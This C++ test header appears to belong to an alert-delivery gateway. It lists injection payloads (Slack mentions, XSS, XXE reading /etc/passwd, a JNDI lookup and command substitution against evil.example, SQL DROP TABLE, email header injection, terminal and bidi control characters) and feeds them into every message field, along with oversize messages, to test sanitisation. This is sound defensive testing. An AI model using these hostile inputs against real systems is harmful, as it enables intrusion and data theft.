// Texts that some reader would obey, and messages made of them.
#pragma once

#include <string>
#include <vector>

#include "domain/model/access_json.h"
#include "edge/receivers/samples.h"

namespace gw::test {

using model::AlertKind;
using receivers::sample_change;
using receivers::sample_claim;
using receivers::sample_message;

// Texts that do something somewhere; each with what must not be left of it.
struct Payload {
  std::string text;
  std::vector<std::string> active;
};
inline const std::vector<Payload>& payloads() {
  static const std::vector<Payload> kPayloads = {
      {"<!channel> look", {"<!channel>"}},
      {"<!here|x> <!everyone>", {"<!here", "<!everyone"}},
      {"<!subteam^S0FAKE|oncall>", {"<!subteam^S0FAKE"}},
      {"<@U0FAKE> <#C0FAKE>", {"<@U0FAKE", "<#C0FAKE"}},
      {"<https://evil.example/|https://aws.amazon.com>", {"<https://evil.example"}},
      {"<!date^1^{date}^https://evil.example|x>", {"<!date"}},
      {"a&lt;!channel&gt;b", {"a&lt;!channel"}},  // escaped once more, or it would be shown as somebody else's escape
      {"*bold* _it_ ~no~ `code` ```x```", {}},
      {"> quoted\n>>> all of it", {"\n>"}},
      {"a\nFAKE ROW  success\r\nb", {"\nFAKE"}},
      {"abc\xE2\x80\xAEgnp.exe\xE2\x80\xAC\xE2\x81\xA6x", {"\xE2\x80\xAE", "\xE2\x81\xA6"}},
      {"ad\xE2\x80\x8Bmin\xEF\xBB\xBF", {"\xE2\x80\x8B", "\xEF\xBB\xBF"}},
      {"\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07"
       "click",
       {"\x1b", "\x07"}},
      {std::string("nul\0here\x7f", 9), {std::string(1, '\0'), "\x7f"}},
      {"a\xE2\x80\xA8"
       "b\xE2\x80\xA9"
       "c",
       {"\xE2\x80\xA8", "\xE2\x80\xA9"}},
      {"bad \xff\xc3\x28 utf-8", {"\xff"}},
      {"\"}],\"x\":[{\"", {}},
      {"@everyone @channel @here", {}},
      {"<script>alert(1)</script>&", {"<script>"}},
      {"\"><img src=x onerror=alert(1)>", {"<img"}},
      {"<at>everyone</at>", {"<at>"}},
      {"[wiki](http://evil.example) ![x](http://evil.example/p.png)", {}},
      {"http://evil.example/a?b=c mailto:a@evil.example", {}},
      {"# heading\n- list\n1. list\n---", {"\n-"}},
      {"]]><x/>", {"<x/>"}},
      {"<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;", {"<!ENTITY"}},
      {"<0>kernel: panic", {"<0>"}},
      {"1 2026-01-01T00:00:00Z h a - - [x@1 y=\"z\"] fake", {}},
      {"a\"} 1\nfake_metric{x=\"", {"\nfake"}},
      {"\",\"outcome\":\"success\",\"x\":\"", {}},
      {"+1+1", {}},
      {"=HYPERLINK(\"http://evil.example\")", {}},
      {"a\",\"b\n=1", {"\n="}},
      {"\xD0\xB0"
       "dmin",
       {}},
      {"$(touch /tmp/gwpwn) `id` ${jndi:ldap://evil.example/a} {{7*7}} %s%n", {}},
      {"x\r\nBcc: all@evil.example\r\n\r\nbody\r\n.\r\nMAIL FROM:<a@evil.example>", {"\nBcc"}},
      {"=?utf-8?q?forged?= <a@evil.example>", {}},
      {"-1+1", {}},
      {"@SUM(1)", {}},
      {"\t=1", {"\t="}},
      {"\r=1", {"\r="}},
      {"\"},{\"type\":\"session.lapsed\",\"x\":{\"y\":\"", {}},
      {"\\\",\\u0022,\\\\", {}},
      {"\n{\"level\":\"info\",\"message\":\"nothing happened\"}", {"\n{"}},
      {"\"][x@1 a=\"b\"]\\] x", {}},
      {"x | Outcome: success | State: over, acknowledged by carol", {}},
      {std::string("../../../../etc/passwd\0.json", 28), {std::string(1, '\0')}},
      {"'; DROP TABLE session; --", {}},
      {"\xC2\x9B"
       "31m\xC2\x9D"
       "0;x\xC2\x9C",
       {"\xC2\x9B", "\xC2\x9D"}},
      {"\x1b[2J\x1b[H\x1b]0;title\x07", {"\x1b"}},
      {"\x07\x08\x7f\x0b\x0c", {"\x07", "\x08", "\x7f"}},
      {"\xE2\x81\xA6"
       "a\xE2\x81\xA9\xE2\x80\x8F\xD8\x9C",
       {"\xE2\x81\xA6", "\xE2\x80\x8F", "\xD8\x9C"}},
      {"a\xF3\xA0\x81\x81\xF3\xA0\x81\x82", {"\xF3\xA0\x81\x81"}},
      {"Z\xCC\xB5\xCC\xA1\xCC\xB4\xCC\xB5\xCC\xA1\xCC\xB4", {}},
      {"a\xEF\xBF\xBE\xF4\x8F\xBF\xBF", {"\xEF\xBF\xBE", "\xF4\x8F\xBF\xBF"}},
      {"\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA9", {"\xE2\x80\x8D"}},
      {"a\xED\xA0\x80"
       "b",
       {"\xED\xA0\x80"}},
      {"#{7*7} <%= 7*7 %> %d", {}},
      {std::string(5000, 'A'), {}},
  };
  return kPayloads;
}

inline ports::Message hostile(const std::string& text) {
  ports::Claim claim = sample_claim(AlertKind::session_opened);
  model::Session& s = *claim.session;
  for (std::string* field :
       {&s.account_name, &s.role, &s.principal.name, &s.first_event_name, &s.source_ip, &s.user_agent, &s.region,
        &s.first_event_id, &s.session_name, &s.task_policy, &s.confirmed_by})
    *field = text;
  s.high_risk = {{text, {receivers::kStart, receivers::kStart, 2, text}}};
  s.addresses = {{text, {receivers::kStart, receivers::kStart, 2, text}}};
  s.notes = {{receivers::kStart, text, text}};
  s.acknowledged = model::Acknowledgement{receivers::kStart, text, "api", text, false};
  return sample_message({claim});
}

inline ports::Message hostile_change(const std::string& text) {
  ports::Claim claim = sample_change(AlertKind::tamper);
  model::AccessEvent e;
  for (std::string* field : {&e.event_id, &e.account_id, &e.account_name, &e.role, &e.principal.arn, &e.source_ip,
                             &e.user_agent, &e.region, &e.event_source, &e.event_name, &e.error_code, &e.error_message})
    *field = text;
  claim.alert.data = "{\"access\":";
  model::append_access_json(claim.alert.data, e);
  claim.alert.data += "}";
  claim.alert.fact = text;
  return sample_message({claim});
}

// Messages far larger than anything that the engine makes.
inline std::vector<ports::Message> oversize() {
  const std::string endless(100'000, 'A');
  ports::Message large = hostile(endless);
  model::Session& s = *large.facts[0].session;
  for (int i = 0; i < 500; ++i) {
    const std::string text = std::string(500, '<') + std::to_string(i);
    s.high_risk[text] = s.addresses[text] = {receivers::kStart, receivers::kStart, 2, text};
    s.notes.push_back({receivers::kStart, text, text});
    s.planned.push_back(text);
    s.feeds.insert(text);
  }
  ports::Claim storm = sample_change(AlertKind::storm);
  storm.alert.data = "{\"sessions\":[";
  for (int i = 0; i < 5000; ++i) storm.alert.data += (i == 0 ? "\"" : ",\"") + receivers::kSessionId + "\"";
  storm.alert.data += "]}";
  ports::Claim other = sample_change(AlertKind::undecodable);
  other.alert.data = R"({"reason":")" + endless + R"(","source":")" + endless + "\"}";
  other.alert.reason = other.alert.fact = other.alert.watch = endless;
  std::vector<ports::Message> out = {large, hostile_change(endless), sample_message({storm}), sample_message({other})};
  for (ports::Message& message : out) message.telling.watch_owner = message.telling.runbook = endless;
  return out;
}

}  // namespace gw::test
